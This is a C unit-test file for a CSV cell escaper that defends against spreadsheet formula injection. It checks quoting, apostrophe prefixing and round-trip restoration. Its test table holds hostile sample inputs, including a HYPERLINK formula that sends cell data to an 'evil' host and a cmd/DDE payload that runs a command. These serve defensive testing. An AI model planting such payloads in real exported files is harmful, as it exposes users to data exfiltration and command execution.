/* test-csv-cell.c
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */

#include "config.h"

#include <string.h>

#include "files/aph-csv-cell.h"

static const struct
{
  const char *text;
  const char *cell;
} cells[] = {
  { "", "" },
  { "plain", "plain" },
  { "鱼", "鱼" },
  { "two words", "two words" },
  { " blank before", "\" blank before\"" },
  { "blank after ", "\"blank after \"" },
  { "a,b", "\"a,b\"" },
  { "a;b", "\"a;b\"" },
  { "a\tb", "\"a\tb\"" },
  { "say \"hi\"", "\"say \"\"hi\"\"\"" },
  { "two\nlines", "\"two\nlines\"" },
  { "two\r\nlines", "\"two\r\nlines\"" },
  /* Numbers are no formulas, */
  { "-5", "-5" },
  { "+3.25e-4", "+3.25e-4" },
  { "-.5", "-.5" },
  { "-5.", "-5." },
  { "'-5", "'-5" },
  /* what only begins like one is. */
  { "-5+1", "'-5+1" },
  { "--5", "'--5" },
  { "-", "'-" },
  { "+", "'+" },
  { "-e5", "'-e5" },
  { "1e5", "1e5" },
  { "-1e", "'-1e" },
  { "=1", "'=1" },
  { "=HYPERLINK(\"http://evil/?\"&A1)", "\"'=HYPERLINK(\"\"http://evil/?\"\"&A1)\"" },
  { "@SUM(A1)", "'@SUM(A1)" },
  { "+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0" },
  { "- a list\n- in Markdown", "\"'- a list\n- in Markdown\"" },
  { "\t=1", "\"'\t=1\"" },
  { "\r=1", "\"'\r=1\"" },
  { "\n=1", "\"'\n=1\"" },
  { " =1", "\"' =1\"" },
  { "＝1", "'＝1" },
  { "＋1", "'＋1" },
  { "－1", "'－1" },
  { "＠a", "'＠a" },
  /* An apostrophe that was there can be told from ours. */
  { "'=1", "''=1" },
  { "''=1", "'''=1" },
  { "'quoted'", "'quoted'" },
  { "a=1", "a=1" },
};

static char *
write_cell (const char *text,
            char        delimiter)
{
  GString *out = g_string_new (NULL);

  aph_csv_cell_append (out, text, -1, delimiter);

  return g_string_free (out, FALSE);
}

static void
test_table (void)
{
  for (guint i = 0; i < G_N_ELEMENTS (cells); i++)
    {
      g_autofree char *cell = write_cell (cells[i].text, ',');

      g_assert_cmpstr (cell, ==, cells[i].cell);
    }
}

/* As a reader sees it: without the quotes. */
static char *
read_cell (const char *cell)
{
  GString *text = g_string_new (NULL);

  if (*cell != '"')
    g_string_append (text, cell);
  else
    for (const char *p = cell + 1; p[1] != '\0'; p++)
      {
        g_string_append_c (text, *p);
        if (*p == '"')
          p++;
      }

  return g_string_free (text, FALSE);
}

static void
test_restore (void)
{
  for (guint i = 0; i < G_N_ELEMENTS (cells); i++)
    {
      g_autofree char *cell = write_cell (cells[i].text, '\t');
      g_autofree char *read = read_cell (cell);
      g_autofree char *restored = aph_csv_cell_restore (read);

      g_assert_cmpstr (restored, ==, cells[i].text);
    }
}

/* Any text of the characters that matter, not longer than six. */
static void
test_restore_all (void)
{
  static const char letters[] = "'=-+1 .\"\n";
  guint n_letters = strlen (letters);
  guint n_texts = 1;

  for (guint length = 0; length <= 6; length++, n_texts *= n_letters)
    for (guint n = 0; n < n_texts; n++)
      {
        char text[8] = "";
        guint rest = n;
        g_autofree char *cell = NULL;
        g_autofree char *read = NULL;
        g_autofree char *restored = NULL;

        for (guint i = 0; i < length; i++, rest /= n_letters)
          text[i] = letters[rest % n_letters];
        cell = write_cell (text, ',');
        read = read_cell (cell);
        restored = aph_csv_cell_restore (read);
        if (strcmp (restored, text) != 0)
          g_error ("“%s” became “%s” and “%s”", text, cell, restored);
        if (!aph_csv_cell_is_safe (text) && *read != '\'')
          g_error ("“%s” is written as “%s”", text, cell);
      }
}

int
main (int   argc,
      char *argv[])
{
  g_test_init (&argc, &argv, NULL);
  g_test_add_func ("/csv-cell/table", test_table);
  g_test_add_func ("/csv-cell/restore", test_restore);
  g_test_add_func ("/csv-cell/restore-all", test_restore_all);

  return g_test_run ();
}
